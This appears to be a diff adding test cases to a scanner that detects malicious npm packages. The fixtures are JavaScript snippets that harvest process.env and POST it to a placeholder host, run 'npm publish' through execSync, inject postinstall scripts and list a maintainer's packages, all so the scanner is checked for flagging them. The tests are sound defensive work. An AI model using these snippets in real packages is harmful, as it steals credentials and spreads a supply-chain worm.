@@ -213,6 +213,37 @@ def test_usage_examples_publish_nothing_but_a_command_does(tmp_path: Path, insta
         "for (const k in process.env) sent += k + process.env[k];",
         "for (var k in process.env) { if (!/^npm_/.test(k)) sent += k + process.env[k]; }",
         "for (let k in process.env) { if (k.startsWith('npm_')) continue; sent += k; }",
+        # a test keeping one prefix, then something else for the other names (decision 0051)
+        "sent = Object.keys(process.env).filter((k) => k.startsWith('npm_') || "
+        "/TOKEN|SECRET|KEY/i.test(k));",
+        "sent = Object.keys(process.env).filter((k) =>\n  k.startsWith('npm_')\n  ?? k);",
+        "for (const [k, v] of Object.entries(process.env)) { if (k.startsWith('npm_')) "
+        "conf[k] = v; else sent += k + v; }",
+        "Object.keys(process.env).forEach((k) => { if (k.startsWith('npm_config_')) "
+        "conf[k] = process.env[k]; sent += k + process.env[k]; });",
+        "for (const k of Object.keys(process.env)) {\n  if (k.startsWith('npm_config_')) {\n"
+        "    conf[k] = process.env[k]\n  }\n  sent += process.env[k]\n}",
+        "Object.keys(process.env).forEach(function (k) { const v = process.env[k], "
+        "ok = k.startsWith('npm_'); sent += k + v; });",
+        "sent = Object.keys(process.env).reduce((a, k) => k.startsWith('npm_') ? "
+        "(a[k] = process.env[k], a) : (b[k] = process.env[k], a), {});",
+        "sent = Object.keys(process.env).reduce((a, k) => (k.startsWith('npm_') && "
+        "(a[k] = process.env[k]), b[k] = process.env[k], a), {});",
+        "sent = Object.keys(process.env).filter((k) => k.startsWith('npm_') ? true : k);",
+        "for (const k of Object.keys(process.env)) { if (!prefixes.some((p) => "
+        "k.startsWith(p))) sent += process.env[k]; }",
+        # the names or the object walked another way, or the object itself sent (0051)
+        "for (const k of Object.getOwnPropertyNames(process.env)) sent += k + process.env[k];",
+        "sent = Reflect.ownKeys(process.env).map((k) => [k, process.env[k]]);",
+        "sent = Object.values(process.env).join('\\n');",
+        "https.request('https://x.example.invalid/c', {method: 'POST'})"
+        ".end(JSON.stringify({...process.env}));",
+        "const copy = Object.assign({}, process.env);\nhttps.request('https://x.example.invalid/c')"
+        ".end(JSON.stringify(copy));",
+        "const result = {\n  env: process.env,\n  host: 'h',\n};\n"
+        "sent = Buffer.from(JSON.stringify(result)).toString('base64');",
+        "const loot = {...process.env};\nfetch('https://x.example.invalid/c', "
+        "{method: 'POST', body: JSON.stringify(loot)});",
     ],
 )
 def test_variables_of_one_prefix_are_no_dump_but_the_whole_environment_is(
@@ -241,6 +272,22 @@ def test_variables_of_one_prefix_are_no_dump_but_the_whole_environment_is(
         "Object.keys(process.env).forEach((k) => { if (!/^npm_/.test(k)) return; sent += k; });",
         "for (const k in process.env) { if (k.startsWith('npm_config_')) sent += process.env[k]; }",
         "for (var k in process.env) { if (k.indexOf('npm_config_') !== 0) continue; sent += k; }",
+        # only prefixes kept, the test first, nothing else done for the other names (0051)
+        "Object.keys(process.env).forEach((k) => { if (k.startsWith('A_')) a[k] = 1; "
+        "if (k.startsWith('B_')) b[k] = 1; });",
+        "for (const k of Object.keys(process.env)) {\n  if (prefixes.some((p) => k.startsWith(p)))"
+        " {\n    sent += process.env[k];\n  }\n}",
+        "for (let[t,r]of Object.entries(process.env))t=t.toLowerCase(),t.startsWith(p)&&"
+        "(t=t.slice(p.length),conf[t]=r);",
+        "for (const [k, v] of Object.entries(process.env)) if (k.startsWith('VITE_')) conf[k] = v;"
+        " sent = JSON.stringify(conf);",
+        "sent = Object.keys(process.env).filter(function (k) { return k.startsWith('npm_') && "
+        "k !== 'npm_token'; });",
+        "sent = Reflect.ownKeys(process.env).filter((k) => /^npm_config_/.test(k));",
+        # the environment given to a worker (or a child process) is not sent
+        "sent = new Worker('./x.js', {env: {...process.env, A: '1'}});",
+        "const env = Object.assign({}, process.env, {A: '1'});\n"
+        "sent = new Worker('./x.js', {env});",
     ],
 )
 def test_a_walk_keeping_one_non_empty_prefix_stays_no_dump(tmp_path: Path, select: str) -> None:
@@ -265,6 +312,78 @@ def test_all_but_one_prefix_posted_at_install_time_is_high(tmp_path: Path) -> No
         "fetch('https://x.example/c', {method: 'POST', body: JSON.stringify(all)});\n"
     )
     assert _found(pkg).get("GH-CRED-ENV-HARVEST") == "high"
+
+
+@pytest.mark.parametrize(
+    ("code", "install"),
+    [
+        # the table's variable read by code (decision 0051)
+        (
+            "var scripts = { pub: 'npm publish ./dist' };\n"
+            "require('child_process').execSync(scripts.pub);",
+            True,
+        ),
+        (
+            "var scripts = { pub: 'npm publish ./dist' };\n"
+            "const { pub } = scripts; require('child_process').execSync(pub);",
+            True,
+        ),
+        (
+            "var scripts = { pub: 'npm publish ./dist' };\n"
+            "Object.values(scripts).forEach((c) => require('child_process').execSync(c));",
+            True,
+        ),
+        # a manifest's table named in a process call
+        (
+            "const meta = { name: 'x', scripts: { pub: 'npm publish ./dist' } };\n"
+            "(0, cp.execSync)(meta.scripts.pub);",
+            True,
+        ),
+        (
+            "const meta = { name: 'x', scripts: { release: 'npm publish ./dist' } };\n"
+            "require('child_process').execSync(meta['scripts'].release);",
+            True,
+        ),
+        # a usage example run
+        (
+            "const usage = { examples: [['Publish', 'npm publish --access public']] };\n"
+            "require('child_process').execSync(usage.examples[0][1]);",
+            True,
+        ),
+        (
+            "const run = { example: (c) => require('child_process').execSync(c) };\n"
+            "run.example('npm publish --access public', 'publish it');",
+            True,
+        ),
+        # the worm's other steps beside a table it never visibly reads
+        (
+            "var scripts = { pub: 'npm publish ./dist' };\n"
+            "pkg.scripts = { ...pkg.scripts, postinstall: 'node bundle.js' };",
+            False,
+        ),
+        (
+            "var scripts = { pub: 'npm publish ./dist' };\n"
+            "Object.assign(pkg.scripts, { preinstall: 'node setup_bun.js' });",
+            False,
+        ),
+        (
+            "const usage = { examples: [['Publish', 'npm publish --access public']] };\n"
+            "fetch(registry + '/-/v1/search?text=maintainer:' + user + '&size=250');",
+            False,
+        ),
+    ],
+)
+def test_a_publish_command_kept_as_data_and_run_is_still_high(
+    tmp_path: Path, code: str, install: bool
+) -> None:
+    """Decision 0051: a scripts table or a usage example is help text only while nothing reads
+    it as a command and the file shows none of the worm's other steps (a script injected into a
+    manifest, a maintainer's packages listed)."""
+    pkg = _copy(tmp_path, "rollup-json-manifest")
+    if not install:
+        _edit(pkg / "package.json", '"scripts": { "postinstall": "node dist/index.js" }', '"x": 1')
+    _edit(pkg / "dist" / "index.js", "function describe", f"{code}\nfunction describe")
+    assert _found(pkg).get("GH-PROPAGATE-NPM-PUBLISH") == "high"
 
 
 def test_private_folders_an_indexer_skips_are_not_read(tmp_path: Path) -> None:
